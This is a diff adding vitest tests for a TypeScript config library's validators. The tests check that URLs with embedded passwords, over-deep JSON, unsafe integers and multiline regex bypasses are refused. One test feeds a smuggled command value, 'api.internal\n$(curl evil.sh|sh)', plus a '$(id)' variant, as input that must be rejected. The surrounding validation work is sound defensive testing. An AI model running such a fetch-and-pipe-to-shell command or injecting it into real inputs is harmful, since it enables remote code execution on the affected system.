@@ -4,7 +4,7 @@ import { describe, expect, expectTypeOf, it } from 'vitest';
 import { z } from 'zod';
 import { errorOf } from '../test/config-error.ts';
 import { ConfigError } from './errors.ts';
-import { loadConfigSync } from './load.ts';
+import { checkConfig, loadConfigSync } from './load.ts';
 import { boolean, duration, number, oneOf, port, string, url } from './scalars.ts';
 import type { Secret } from './secret.ts';
 import { secret } from './secret-spec.ts';
@@ -88,6 +88,65 @@ describe('string, number, port, boolean, url, oneOf, duration, list, json', () =
     expect(() => oneOf(['a', 'b'], { default: 'c' as 'a' })).toThrow(/default is invalid/);
     expect(() => duration({ default: 'soon' })).toThrow(/not a duration/);
     expect(() => string({ defualt: 'x' } as never)).toThrow(/defualt/);
+  });
+
+  it('validate list items, json documents, booleans and durations given as defaults', () => {
+    const schemaError = (message: RegExp) =>
+      expect.objectContaining({ code: 'ERR_CONFIG_SCHEMA', message: expect.stringMatching(message) });
+    expect(() =>
+      list({ of: url({ protocols: ['https:'] }), default: ['http://x.test', 'not a url', 'https://u:pw@h.test'] }),
+    ).toThrow(
+      schemaError(
+        /item 1 must use one of the protocols https:.*item 2 must be an absolute URL.*item 3 embeds a password/,
+      ),
+    );
+    expect(() => list({ default: ['', 'a,b'] })).toThrow(schemaError(/item 1 is empty.*item 2 contains the separator/));
+    expect(() => list({ of: port(), default: [8080, 0] })).toThrow(schemaError(/item 2 must be at least 1/));
+    expect(() => list({ default: 'a,b' as never })).toThrow(schemaError(/must be an array/));
+    expect(() => json({ schema: z.object({ n: z.number() }), default: { n: 'x' } as never })).toThrow(
+      schemaError(/json\(\): the default is invalid: does not satisfy its schema/),
+    );
+    expect(() => json({ default: JSON.parse(`${'['.repeat(300)}${']'.repeat(300)}`) })).toThrow(
+      schemaError(/256 levels/),
+    );
+    for (const bad of [Number.NaN, Number.POSITIVE_INFINITY, -1]) {
+      expect(() => duration({ default: bad }), String(bad)).toThrow(
+        schemaError(/duration\(\): the default is invalid/),
+      );
+    }
+    expect(() => boolean({ default: 'no' as never })).toThrow(
+      schemaError(/boolean\(\): the default is invalid: must be true or false/),
+    );
+    expect(() => number({ default: '3' as never })).toThrow(schemaError(/must be a number/));
+    expect(() => string({ default: 3 as never })).toThrow(schemaError(/must be a string/));
+    expect(() => url({ default: 'https://app:hunter2hunter2@db.test' })).toThrow(schemaError(/embeds a password/));
+    // Messages never quote the default.
+    try {
+      list({ of: url(), default: ['https://app:hunter2hunter2@db.test'] });
+    } catch (error) {
+      expect((error as Error).message).not.toContain('hunter2');
+    }
+    // Good defaults still load.
+    const config = loadConfigSync(
+      {
+        L: list({ of: url({ protocols: ['https:'] }), default: ['https://a.test', 'https://b.test'] }),
+        J: json({ schema: z.object({ n: z.number() }), default: { n: 1 } }),
+        B: boolean({ default: false }),
+        D: duration({ default: 1000 }),
+      },
+      { env: TEST },
+    );
+    expect(config).toEqual({ L: ['https://a.test', 'https://b.test'], J: { n: 1 }, B: false, D: 1000 });
+  });
+
+  it('list() refuses an item spec that is not a spec and an empty or non-string separator', () => {
+    const schemaError = (message: RegExp) =>
+      expect.objectContaining({ code: 'ERR_CONFIG_SCHEMA', message: expect.stringMatching(message) });
+    expect(() => list({ of: z.enum(['a', 'b']) as never })).toThrow(schemaError(/list\(\): `of` must be a spec/));
+    expect(() => list({ of: 'string' as never })).toThrow(schemaError(/`of` must be a spec/));
+    expect(() => list({ separator: '' })).toThrow(schemaError(/separator must be a non-empty string/));
+    expect(() => list({ separator: 1 as never })).toThrow(schemaError(/separator must be a non-empty string/));
+    expect(list({ separator: ' ' }).parse('a b')).toEqual({ ok: true, value: ['a', 'b'] });
   });
 
   it('parse what they promise and refuse the rest', () => {
@@ -183,6 +242,53 @@ describe('string, number, port, boolean, url, oneOf, duration, list, json', () =
     }
   });
 
+  it('refuse credentials inside nested-scheme URLs (jdbc:) unless allowed, naming the parameter only', () => {
+    const cases = [
+      ['jdbc:mysql://app:S3cretPw@db:3306/shop', /embeds a password/],
+      ['jdbc:postgresql://app:S3cretPw@db/shop', /embeds a password/],
+      ['jdbc:tc:mysql://app:S3cretPw@db/shop', /embeds a password/],
+      ['jdbc:postgresql://db/shop?user=app&password=S3cretPw', /query parameter password/],
+      ['jdbc:sqlserver://db:1433;user=app;password=S3cretPw', /parameter password/],
+      ['jdbc:sqlserver://db:1433;databaseName=shop;Password=S3cretPw;encrypt=true', /parameter Password/],
+    ] as const;
+    for (const [value, message] of cases) {
+      const env = { ...TEST, U: value };
+      const issue = errorOf(() => loadConfigSync({ U: url() }, { env })).issues[0];
+      expect(issue?.code, value).toBe('invalid');
+      expect(issue?.message, value).toMatch(message);
+      expect(issue?.message, value).not.toContain('S3cretPw');
+      expect(loadConfigSync({ U: url({ allowCredentials: true }) }, { env }).U).toBe(value);
+    }
+    for (const value of [
+      'jdbc:mysql://app@db:3306/shop?useSSL=true',
+      'jdbc:sqlserver://db:1433;databaseName=shop;encrypt=true',
+      'jdbc:postgresql://db/shop?password=',
+    ]) {
+      expect(loadConfigSync({ U: url() }, { env: { ...TEST, U: value } }).U).toBe(value);
+    }
+  });
+
+  it('json() refuses documents nested deeper than 256 levels, the same way in checkConfig and loading', async () => {
+    const nested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`;
+    expect(loadConfigSync({ J: json() }, { env: { ...TEST, J: nested(256) } }).J).toBeDefined();
+    for (const depth of [257, 12_000]) {
+      const env = { ...TEST, J: nested(depth) };
+      const report = await checkConfig({ J: json() }, { env });
+      expect(report.issues.map((issue) => [issue.key, issue.code])).toEqual([['J', 'invalid']]);
+      expect(report.issues[0]?.message).toMatch(/nested deeper than 256 levels/);
+      expect(errorOf(() => loadConfigSync({ J: json() }, { env })).issues).toEqual(report.issues);
+    }
+  });
+
+  it('deeply freezes a deeply nested value a Standard Schema validator returns', () => {
+    const depth = 200_000;
+    const schema = { J: z.string().transform((text) => JSON.parse(text) as unknown) };
+    const config = loadConfigSync(schema, { env: { ...TEST, J: `${'['.repeat(depth)}${']'.repeat(depth)}` } });
+    let value = config.J as unknown[];
+    for (let level = 1; level < depth; level++) value = value[0] as unknown[];
+    expect(Object.isFrozen(value)).toBe(true);
+  });
+
   it('number parsing accepts exactly decimal numbers', () => {
     fc.assert(
       fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (n) => {
@@ -214,6 +320,35 @@ describe('spec parsers (properties)', () => {
         expect(list().parse(items.join(' , '))).toEqual({ ok: true, value: items });
       }),
     );
+  });
+
+  it('string({ pattern }) matches the whole value whatever the flags, and gives the same answer every time', () => {
+    const multiline = string({ pattern: /[a-z0-9.-]+/m });
+    expect(multiline.parse('api.internal\n$(curl evil.sh|sh)').ok).toBe(false);
+    expect(string({ pattern: /^[a-z]+$/m }).parse('abc\n$(id)').ok).toBe(false);
+    expect(multiline.parse('api.internal').ok).toBe(true);
+    for (const pattern of [/[a-z]+/g, /[a-z]+/y, /[a-z]+/gmy]) {
+      const spec = string({ pattern });
+      for (let i = 0; i < 3; i++) {
+        expect(spec.parse('abc').ok, String(pattern)).toBe(true);
+        expect(spec.parse('abc1').ok, String(pattern)).toBe(false);
+      }
+    }
+    fc.assert(
+      fc.property(fc.string(), (text) => {
+        expect(multiline.parse(text).ok).toBe(/^[a-z0-9.-]+$/.test(text));
+      }),
+    );
+  });
+
+  it('number({ integer: true }) refuses integers beyond 2^53 instead of rounding them', () => {
+    const spec = number({ integer: true });
+    for (const text of ['9007199254740993', '9007199254740992', '1e21', '-9007199254740993']) {
+      expect(spec.parse(text), text).toEqual({ ok: false, reason: expect.stringMatching(/safe integer/) });
+    }
+    expect(spec.parse('9007199254740991')).toEqual({ ok: true, value: 9_007_199_254_740_991 });
+    expect(() => number({ integer: true, default: 2 ** 60 })).toThrow(/default is invalid/);
+    expect(number().parse('1e21')).toEqual({ ok: true, value: 1e21 });
   });
 
   it('port() accepts exactly the integers 1-65535', () => {
